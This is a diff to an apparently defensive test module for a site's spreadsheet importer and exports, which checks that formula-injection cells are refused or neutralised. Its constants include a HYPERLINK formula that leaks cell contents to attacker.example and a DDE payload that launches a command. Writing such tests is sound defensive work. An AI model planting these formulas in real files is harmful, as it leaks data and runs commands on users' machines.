@@ -1,6 +1,6 @@
 """Formula injection: the importer refuses cells a spreadsheet would run as a formula, and
 every CSV and XLSX the site writes (the «Servizi da verificare» report, the open-data CSV)
-neutralises them (webperf/spreadsheets.py), while phone numbers and negative numbers pass."""
+neutralises them (hardening/spreadsheets.py), while phone numbers and negative numbers pass."""
 
 import csv
 import io
@@ -11,10 +11,10 @@ from openpyxl import load_workbook
 
 from editorial.importer.runner import preview
 from editorial.importer.validation import RowValidator
+from hardening.spreadsheets import csv_cell, is_formula_like
 from services_catalog.models import ServicePage
 from tests.editorial.files import csv_bytes, service_row
 from tests.factories import ServicePageFactory
-from webperf.spreadsheets import csv_cell, is_formula_like
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1&B1,"Dettagli")'
 DDE = "=cmd|' /C calc'!A0"
